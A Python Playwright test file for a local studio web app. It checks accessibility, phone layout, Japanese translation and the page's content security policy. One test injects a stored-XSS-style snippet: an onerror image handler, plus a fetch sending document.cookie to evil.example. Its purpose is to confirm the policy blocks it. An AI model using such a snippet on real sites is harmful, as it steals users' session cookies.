"""The page with assistive technology, on phones, in the dark, in other languages; its requests and lock."""

from __future__ import annotations

import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import INK, ROOT
from tests.ui.conftest import BROWSER, Started, served
from ui.text import sentences
from ui.views.settings_form import declared_sentences

pytestmark = BROWSER
AXE = (Path(__file__).parent / "vendor" / "axe.min.js").read_text(encoding="utf-8")
RULES = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa"]
TABS = ("artwork", "captions", "train", "try_it", "library")
VISIBLE = {"captions": "#tab-captions textarea:visible", "try_it": "#strip img", "library": "#shelf .lora"}
# HTML of the visible controls that are narrower or lower than 24 px.
SMALL_CONTROLS = """() => {
    const kinds = 'button, input, select, textarea, summary, a[class], [role=button], [role=tab]';
    const isSmall = (control) => {
        const target = /checkbox|radio/.test(control.type) ? control.closest('label') || control : control;
        const box = target.getBoundingClientRect(), style = getComputedStyle(control);
        const isShown = box.width > 0 && style.visibility !== 'hidden' && style.opacity !== '0';
        const isHidden = control.closest('[inert], .sr-only') || control.type === 'file';
        return isShown && !isHidden && Math.min(box.width, box.height) < 24;
    };
    return [...document.querySelectorAll(kinds)].filter(isSmall).map((e) => e.outerHTML.slice(0, 160));
}"""
# Texts, labels and placeholders that are visible.
VISIBLE_TEXTS = """() => {
    const found = [], walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    while (walk.nextNode()) {
        if (walk.currentNode.parentElement.offsetParent) found.push(walk.currentNode.textContent.trim());
    }
    for (const e of document.querySelectorAll('[aria-label], [placeholder]')) {
        if (!e.offsetParent) continue;
        found.push(e.getAttribute('aria-label') || '', e.getAttribute('placeholder') || '');
    }
    return found;
}"""
# Markup with an event handler and a frame of another host, and a request to that host.
STORED_ATTACK = """() => {
    const box = document.createElement('div');
    document.body.append(box);
    const image = '<img src=/gone.png onerror="window.stolen = 1">';
    box.innerHTML = image + '<iframe src="https://evil.example"></iframe>';
    fetch('https://evil.example/?' + document.cookie).catch(() => {});
}"""
# axe.run with the rules as its argument.
AXE_RUN = """(tags) => axe.run(
    document, {runOnly: {type: 'tag', values: tags}, resultTypes: ['violations', 'passes']}
)"""


@pytest.fixture(scope="module")
def studio(tmp_path_factory: pytest.TempPathFactory, ink_run: Path) -> Iterator[Started]:
    """A studio with the sample set and a finished training of it."""
    home = tmp_path_factory.mktemp("everyone")
    shutil.copytree(INK, home / "datasets" / "ink-emoji")
    shutil.copytree(ink_run, home / "outputs" / "ink")
    (home / "outputs" / "ink" / "project.json").write_text('{"project": "ink-emoji"}')
    with served(home) as started:
        yield started


@pytest.fixture
def opened(studio: Started, browser):
    """Opens a page and waits for its project. It is closed at the end, because an open page keeps polling."""
    contexts = []

    def open_page(**options):
        contexts.append(browser.new_context(**options))
        page = contexts[-1].new_page()
        page.set_default_timeout(60_000)
        page.goto(studio.address)
        page.wait_for_selector("#cards .picture")
        return page

    yield open_page
    for context in contexts:
        context.close()


def show(page, tab: str) -> None:
    page.locator(f"#tab-{tab}-button").click()
    page.wait_for_selector(f"#tab-{tab}", state="visible")
    page.wait_for_selector(VISIBLE.get(tab, "h1"))


def violations(page) -> list[str]:
    page.evaluate(AXE)
    found = page.evaluate(AXE_RUN, RULES)
    return [
        f"{v['id']}: {node['html'][:200]} {node['any'][0]['message'] if node['any'] else ''}"
        for v in found["violations"]
        for node in v["nodes"]
    ]


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_no_violation_on_any_tab(opened, scheme: str):
    page, wrong = opened(color_scheme=scheme), {}
    for tab in TABS:
        show(page, tab)
        if scheme == "light":  # open the accordions too
            for fold in page.locator(f"#tab-{tab} button.label-wrap:visible").all():
                if "open" not in (fold.get_attribute("class") or "").split():
                    fold.click()
        if found := violations(page):
            wrong[tab] = found
    assert not wrong, wrong
    assert page.locator("h1").count() == 1


def test_every_tab_fits_a_phone_and_its_controls_are_large_enough_for_a_finger(opened):
    page, small = opened(viewport={"width": 390, "height": 844}, has_touch=True), {}
    for tab in TABS:
        show(page, tab)
        assert page.evaluate("document.documentElement.scrollWidth") <= 390, tab
        found = page.evaluate(SMALL_CONTROLS)
        if found:
            small[tab] = found
        if tab == "train":
            assert page.locator("#train").is_visible()
    assert not small, small


def test_a_japanese_browser_shows_no_english_sentence(opened):
    page, wrong = opened(locale="ja"), {}
    english, japanese = sentences("en") | declared_sentences(), sentences("ja")
    untranslated = {
        text for key, text in english.items() if japanese.get(key) != text and re.search("[a-z]{3}", text)
    }
    assert page.evaluate("document.documentElement.lang") == "ja"
    for tab in TABS:
        show(page, tab)
        page.evaluate("document.querySelectorAll('#form details').forEach((group) => { group.open = true; })")
        texts = page.evaluate(VISIBLE_TEXTS)
        if found := sorted(set(texts) & untranslated):
            wrong[tab] = found
        assert japanese[f"page.{tab}"] in texts
    assert not wrong, wrong


def test_the_page_requests_no_other_host_and_keeps_its_content_security_policy(studio: Started, browser):
    page = browser.new_context().new_page()
    page.set_default_timeout(60_000)
    foreign, errors = [], []
    page.on(
        "request",
        lambda r: foreign.append(r.url) if not r.url.startswith((studio.address, "data:", "blob:")) else None,
    )
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.on("response", lambda r: errors.append(f"{r.status} {r.url}") if r.status >= 400 else None)
    page.goto(studio.address)
    page.wait_for_selector("#cards .picture")
    for tab in TABS:
        show(page, tab)
    assert not foreign
    assert not errors
    # As in a stored attack: an event handler in markup does not run, and no data is sent elsewhere.
    page.evaluate(STORED_ATTACK)
    page.wait_for_timeout(500)
    assert page.evaluate("window.stolen === undefined")
    assert any("Content Security Policy" in error for error in errors)
    page.context.close()


def test_a_second_server_of_the_same_folder_exits_and_names_the_first(studio: Started):
    command = [
        sys.executable,
        "app.py",
        "--port",
        "1",
        "--datasets",
        str(studio.home / "datasets"),
        "--outputs",
        str(studio.home / "outputs"),
    ]
    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert done.returncode == 1
    assert re.search(rf"by process \d+ at {re.escape(studio.address)}", done.stderr), done.stderr
